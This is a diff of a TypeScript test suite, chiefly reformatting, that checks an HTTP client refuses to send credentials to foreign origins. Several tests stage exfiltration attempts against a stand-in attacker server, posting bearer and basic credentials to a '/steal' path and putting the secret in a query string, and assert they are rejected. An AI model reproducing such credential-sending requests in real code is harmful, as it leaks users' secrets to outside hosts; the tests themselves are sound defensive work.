@@ -42,9 +42,14 @@ function http() {
   });
 }
 
-describe('credentials never leave the connection\'s origins', () => {
+describe("credentials never leave the connection's origins", () => {
   it('does not follow a redirect to another origin, so the credential is sent once, to the vendor', async () => {
-    const res = await http().request({ method: 'GET', safe: true, url: `${vendorServer.url}/x`, headers: { authorization: `Bearer ${SECRET}` } });
+    const res = await http().request({
+      method: 'GET',
+      safe: true,
+      url: `${vendorServer.url}/x`,
+      headers: { authorization: `Bearer ${SECRET}` },
+    });
     assert.equal(res.status, 302);
     assert.equal(attacker.hits.length, 0);
   });
@@ -56,13 +61,18 @@ describe('credentials never leave the connection\'s origins', () => {
       { headers: { accept: `Basic ${Buffer.from(SECRET).toString('base64')}` } },
     ];
     for (const call of calls) {
-      await assert.rejects(http().request({ method: 'POST', safe: false, url: `${attacker.url}/steal`, ...call }), { code: 'HTTP_CROSS_ORIGIN_CREDENTIAL' });
+      await assert.rejects(http().request({ method: 'POST', safe: false, url: `${attacker.url}/steal`, ...call }), {
+        code: 'HTTP_CROSS_ORIGIN_CREDENTIAL',
+      });
     }
-    await assert.rejects(http().request({ method: 'GET', safe: true, url: `${attacker.url}/steal?k=${SECRET}` }), (err: Error & { code?: string }) => {
-      assert.equal(err.code, 'HTTP_CROSS_ORIGIN_CREDENTIAL');
-      assert.ok(!err.message.includes(SECRET));
-      return true;
-    });
+    await assert.rejects(
+      http().request({ method: 'GET', safe: true, url: `${attacker.url}/steal?k=${SECRET}` }),
+      (err: Error & { code?: string }) => {
+        assert.equal(err.code, 'HTTP_CROSS_ORIGIN_CREDENTIAL');
+        assert.ok(!err.message.includes(SECRET));
+        return true;
+      },
+    );
     assert.equal(attacker.hits.length, 0);
     // Without any credential a foreign origin may be read (e.g. a pre-signed archive URL).
     assert.equal((await http().request({ method: 'GET', safe: true, url: `${attacker.url}/archive.zip` })).status, 200);
